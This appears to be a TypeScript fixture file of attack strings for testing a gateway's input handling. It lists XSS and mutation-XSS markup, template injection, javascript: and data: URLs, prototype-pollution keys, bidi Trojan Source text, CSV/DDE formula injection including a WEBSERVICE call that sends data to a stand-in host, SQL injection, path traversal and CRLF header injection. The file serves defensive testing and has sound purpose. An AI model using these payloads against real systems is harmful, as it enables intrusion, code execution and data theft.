/**
 * Texts that attackers send through a gateway, by what they aim at. Each one that is a script sets `__ran` where it runs. The
 * kinds are those of the lists that testers use (https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html,
 * https://owasp.org/www-community/attacks/CSV_Injection, https://trojansource.codes); the texts are our own.
 */

const RUN = '__ran=1';
/** From within a frame. */
const RUN_OUT = 'parent.__ran=1';
/** A host that is nowhere. */
const AWAY = 'http://hostile.invalid';
/** A picture of one pixel whose file is a script as well. */
const PICTURE = `data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/%3E`;

const MARKUP = [
  `<script>${RUN}</script>`,
  `<script src="${AWAY}/x.js"></script>`,
  `<ScRiPt >${RUN}</ScRiPt >`,
  `<scr<script>ipt>${RUN}</script>`,
  `<script type="module">${RUN}</script>`,
  `<script src="data:text/javascript,${RUN}"></script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=x onerror="${RUN}" onload="${RUN}">`,
  `<img/src='x'/onerror=${RUN}//`,
  `<img src="${AWAY}/pixel.png" alt="">`,
  `<img srcset="${AWAY}/pixel.png 1x">`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s></svg>`,
  `<svg><use href="${PICTURE}"></use></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y="9">x</text></a></svg>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${RUN}">x</maction></math>`,
  `<iframe src="javascript:${RUN_OUT}"></iframe>`,
  `<iframe srcdoc="<script>${RUN_OUT}</script>"></iframe>`,
  `<iframe src="${AWAY}/frame"></iframe>`,
  `<object data="data:text/html,<script>${RUN_OUT}</script>"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<a href="javascript:${RUN}">click</a>`,
  `<a href="java&#10;script:${RUN}" autofocus onfocus=${RUN}>click</a>`,
  `<a href="${AWAY}" target=_blank>click</a>`,
  `<form action="javascript:${RUN}"><button>go</button></form>`,
  `<button formaction="javascript:${RUN}" onclick=${RUN}>go</button>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}></select>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<body onload=${RUN} onpageshow=${RUN}>`,
  `<video><source onerror=${RUN} src=x></video>`,
  `<video poster="${AWAY}/poster.png" src=x onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}></audio>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<style>*{background:url(${AWAY}/style.png)}</style>`,
  `<style>@import "${AWAY}/style.css";</style>`,
  `<style onload=${RUN}></style>`,
  `<link rel=stylesheet href="${AWAY}/link.css" onload=${RUN} onerror=${RUN}>`,
  `<link rel=prefetch href="${AWAY}/fetched">`,
  `<meta http-equiv=refresh content="0;url=${AWAY}">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline'">`,
  `<base href="${AWAY}/">`,
  `<template shadowrootmode=open><script>${RUN}</script></template>`,
  `<gateway-logs endpoint="${AWAY}/logs"></gateway-logs>`,
  `<slot name=error></slot><slot name=toolbar></slot>`,
  `<p style="position:fixed;inset:0;background:url(${AWAY}/over.png)">Sign in again</p>`,
  `<dialog open onclose=${RUN}>Your session is over</dialog>`,
] as const;

const BREAKERS = [
  `"><script>${RUN}</script>`,
  `'><img src=x onerror=${RUN}>`,
  `" onmouseover="${RUN}" autofocus onfocus="${RUN}" x="`,
  `' onfocus='${RUN}' autofocus tabindex='0`,
  '` onfocus=`' + RUN + '` autofocus',
  ` onfocus=${RUN} autofocus `,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `--><script>${RUN}</script><!--`,
  `]]><script>${RUN}</script>`,
  `';${RUN};//`,
  `";${RUN};"`,
  `\\";${RUN};//`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
] as const;

/** What one parser reads in another way than the next. */
const MUTATIONS = [
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${RUN}>`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<?xml-stylesheet href="javascript:${RUN}"?>`,
  `<\0script>${RUN}</\0script>`,
  `<img src="x\`><script>${RUN}</script>"\`>`,
] as const;

const TEMPLATES = [
  `\${${RUN}}`,
  `\${this.ownerDocument.defaultView.${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `{{$on.constructor('${RUN}')()}}`,
  `{{_c.constructor('${RUN}')()}}`,
  `<div v-html="'<img src=x onerror=${RUN}>'"></div>`,
  `<div ng-app ng-csp>{{$eval.constructor('${RUN}')()}}</div>`,
  `<%= ${RUN} %>`,
  `#{${RUN}}`,
  `[[${RUN}]]`,
  '<!--?lit$123456789$-->',
  '<!--lit-part--><!--/lit-part-->',
  '<?lit$123456789$>',
  'lit$123456789$',
  '{{lit-123456789}}',
  'a$lit$="',
  '?lit$1$ .innerHTML=${x} @click=${x}',
  '[object Object] undefined NaN null',
] as const;

const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `data:text/html,<script>${RUN_OUT}</script>`,
  `data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19yYW49MTwvc2NyaXB0Pg==`,
  PICTURE,
  `vbscript:msgbox(1)`,
  `${AWAY}/plain`,
  '//hostile.invalid/no-scheme',
  'https://user@hostile.invalid:8443/?q=1#hash',
  'mailto:someone@hostile.invalid?subject=x',
  'tel:+15551234567',
  'file:///etc/passwd',
  'blob:http://hostile.invalid/0',
  `[click](javascript:${RUN})`,
  `![picture](${AWAY}/markdown.png)`,
  `[reference][1]\n\n[1]: ${AWAY}/reference`,
  `<${AWAY}/angle>`,
  `url(${AWAY}/css.png)`,
  `expression(${RUN})`,
  `;background:url(${AWAY}/declaration.png);--x:`,
  '\\\\hostile.invalid\\share',
  '/../../../api/secrets',
  '?search=x&per_page=1#hash',
] as const;

/** Names that objects and documents have already. */
const NAMES = [
  '__proto__',
  'constructor',
  'prototype',
  'hasOwnProperty',
  'toString',
  'valueOf',
  'attributes',
  'entry',
  'shadowRoot',
  'renderRoot',
  'innerHTML',
  'then',
  '<form id=attributes><input name=entry><input name=parentNode></form>',
  '<img name=body><img name=getElementById>',
  '{"__proto__":{"polluted":1}}',
  '{"constructor":{"prototype":{"polluted":1}}}',
  '__proto__[polluted]=1',
] as const;

const CHARACTERS = [
  'null\0byte',
  '\u0001\u0002\u0007\u0008\u000b\u000c\u000e\u001f\u007f',
  '\u0080\u0085\u009b31m\u009f',
  '\u001b[31mred\u001b[0m\u001b]8;;http://hostile.invalid\u0007link\u001b]8;;\u0007',
  '\u001b[2J\u001b[H$ rm -rf /',
  'lone \ud800 and \udc00 halves',
  '\ud83d',
  '\ufffe\uffff\ufeff',
  'header\r\nSet-Cookie: session=1\r\n\r\n<script>__ran=1</script>',
  'line\u2028separator\u2029paragraph',
  'p\u0430ypal.com g\u043e\u043egle',
  '\u{e0073}\u{e0065}\u{e0063}\u{e0072}\u{e0065}\u{e0074} tags',
  'Z\u0351\u036b\u0343a\u0310\u0352\u0357l\u0346\u034c\u0341g\u0310\u0352o\u0311\u0301',
  'zero\u200bwidth\u200c\u200d\u2060\u00adjoiners',
  '\ufdfa'.repeat(40),
] as const;

const DIRECTIONS = [
  'invoice\u202egpj.exe',
  '\u202e\u202dabc\u202c\u202c',
  'user\u2067; admin\u2069',
  'if (a\u202e \u2066// only admins\u2069 \u2066) {',
  '\u200f\u200eMarks\u061c',
  '\u2066\u2067\u2068never closed',
] as const;

const FORMULAS = [
  '=1+1',
  `=HYPERLINK("${AWAY}","Click")`,
  "=cmd|' /C calc'!A0",
  '=WEBSERVICE("http://hostile.invalid/"&A1)',
  '@SUM(1+1)*cmd|calc!A0',
  '-2+3+cmd|calc!A0',
  '+1+1',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  'DDE("cmd";"/C calc";"x")',
] as const;

const SYNTAX = [
  '"}],"success":false,"x":[{"y":"',
  '{"a":',
  '\\',
  '\\u0000',
  '(.*)+$',
  '^(a+)+$',
  '[',
  '$& $1 $` $\'',
  '%00',
  '%',
  "' OR 1=1 --",
  '../../../etc/passwd',
  '{"deep":'.repeat(60) + '1' + '}'.repeat(60),
  '['.repeat(200) + ']'.repeat(200),
  '```js\n</code><script>__ran=1</script>\n```',
  'data: {"choices":[{"delta":{"content":"x"}}]}\n\ndata: [DONE]\n\n',
  'event: error\ndata: {"error":{"message":"<script>__ran=1</script>"}}\n\n',
] as const;

/** All of them. */
export const PAYLOADS: readonly string[] = [
  ...MARKUP,
  ...BREAKERS,
  ...MUTATIONS,
  ...TEMPLATES,
  ...ADDRESSES,
  ...NAMES,
  ...CHARACTERS,
  ...DIRECTIONS,
  ...FORMULAS,
  ...SYNTAX,
];

/** Those that run where they are taken for HTML. */
export const LIVE: readonly string[] = [...MARKUP, ...BREAKERS, ...MUTATIONS];
